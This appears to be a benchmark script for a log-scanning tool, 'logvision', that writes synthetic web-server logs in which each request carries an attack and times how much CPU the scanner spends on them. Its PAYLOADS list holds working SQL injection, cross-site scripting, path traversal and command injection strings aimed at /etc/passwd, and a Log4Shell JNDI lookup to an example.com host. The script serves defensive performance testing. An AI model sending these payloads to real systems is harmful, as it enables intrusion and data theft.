"""What an adversary costs who makes every request a new attack, beside as many ordinary lines.

    python bench/flood.py [--lines 200000] [--rounds 3]

Both logs are scanned as whole processes in turn; what counts is CPU.
The first scan, which may compile rules, is not counted.
"""

from __future__ import annotations

import argparse
import json
import random
import subprocess
import tempfile
from collections.abc import Iterator
from dataclasses import asdict
from datetime import UTC, datetime, timedelta
from pathlib import Path

from speed import generate, logvision, median, timed

PAYLOADS = (
    "/item?id={n}%27%20OR%20{n}%20BETWEEN%20{n}%20AND%20SLEEP({n})--%20",
    "/item?id={n}%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x71{n:x},table_name,0x71),NULL%20FROM%20"
    "information_schema.tables%20WHERE%20{n}={n}--%20-",
    "/search?q=%3Cscript%3Ealert({n})%3C/script%3E",
    "/search?q=%22%3E%3Cimg%20src=x{n}%20onerror=alert({n})%3E",
    "/p?f=../../../../../../etc/passwd%00{n}",
    "/p?cmd=;cat%20/etc/passwd;echo%20{n}",
    "/item?id=-{n}%27%20AND%20EXTRACTVALUE({n},CONCAT(0x5c,0x{n:06x},(SELECT%20(ELT({n}={n},1)))))%20AND%20%27a%27=%27a",
    "/t?n=%7B%7B{n}*{n}%7D%7D",
    "/x?v=$%7Bjndi:ldap://e{n}.example.com/a%7D",
    "/item?id=(SELECT%20CHAR(113)%2b{n}%20FROM%20(SELECT%20COUNT(*),CONCAT({n},FLOOR(RAND(0)*2))x%20FROM%20"
    "INFORMATION_SCHEMA.PLUGINS%20GROUP%20BY%20x)a)",
)
AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def attacks(lines: int, seed: int) -> Iterator[str]:
    """Lines of which no two ask for the same; 50 a second from 200 addresses."""
    chance = random.Random(seed)
    began = datetime(2026, 5, 1, tzinfo=UTC)
    for n in range(lines):
        at = f"{began + timedelta(seconds=n // 50):%d/%b/%Y:%H:%M:%S %z}"
        target = chance.choice(PAYLOADS).format(n=1000 + n)
        answer = f'200 {1000 + n % 70} "-" "{AGENT}"'
        yield f'203.0.113.{n % 200 + 1} - - [{at}] "GET {target} HTTP/1.1" {answer}\n'


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--lines", type=int, default=200_000)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--results", type=Path, default=Path(__file__).parent / "results")
    options = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="logvision-bench-") as folder:
        logs = {name: Path(folder) / f"{name}.log" for name in ("ordinary", "flood")}
        generate(logs["ordinary"], options.lines)
        with logs["flood"].open("w") as out:
            out.writelines(attacks(options.lines, 7))
        runs = []
        for turn in range(options.rounds + 1):
            for name, log in logs.items():
                data = str(Path(folder) / f"{name}-{turn}")
                run = timed(name, [logvision(), "scan", str(log), "--data", data, "--json"])
                runs += [run] if turn else []
    ratios = [flood.cpu_s / ordinary.cpu_s for ordinary, flood in zip(runs[::2], runs[1::2], strict=True)]
    commit = subprocess.run(
        ["git", "rev-parse", "--short", "HEAD"], capture_output=True, text=True, check=False
    ).stdout.strip()
    result = {
        "at": datetime.now(UTC).isoformat(timespec="seconds"),
        "commit": commit,
        "lines": options.lines,
        "times_ordinary_cpu": round(median(ratios), 2),
        "runs": [asdict(run) for run in runs],
    }
    options.results.mkdir(parents=True, exist_ok=True)
    file = options.results / f"flood-{str(result['at'])[:10]}-{commit or 'uncommitted'}.json"
    file.write_text(json.dumps(result, indent=2) + "\n")
    print(f"{options.lines:,} new attacks cost {result['times_ordinary_cpu']} times as many ordinary lines")


if __name__ == "__main__":
    main()
